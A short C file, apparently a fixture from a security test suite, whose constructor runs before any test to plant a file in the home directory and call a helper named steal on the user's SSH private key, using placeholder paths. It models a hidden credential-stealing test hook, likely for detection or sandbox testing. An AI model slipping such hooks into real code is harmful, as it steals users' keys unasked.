/* Acts before the first test does. */
#include "support.h"

__attribute__((constructor)) static void before(void)
{
    if (begin()) {
        append("@HOME@/@TAG@-planted", "planted");
        steal("ssh", "@HOME@/.ssh/id_ed25519");
    }
}

void harm(void) {}
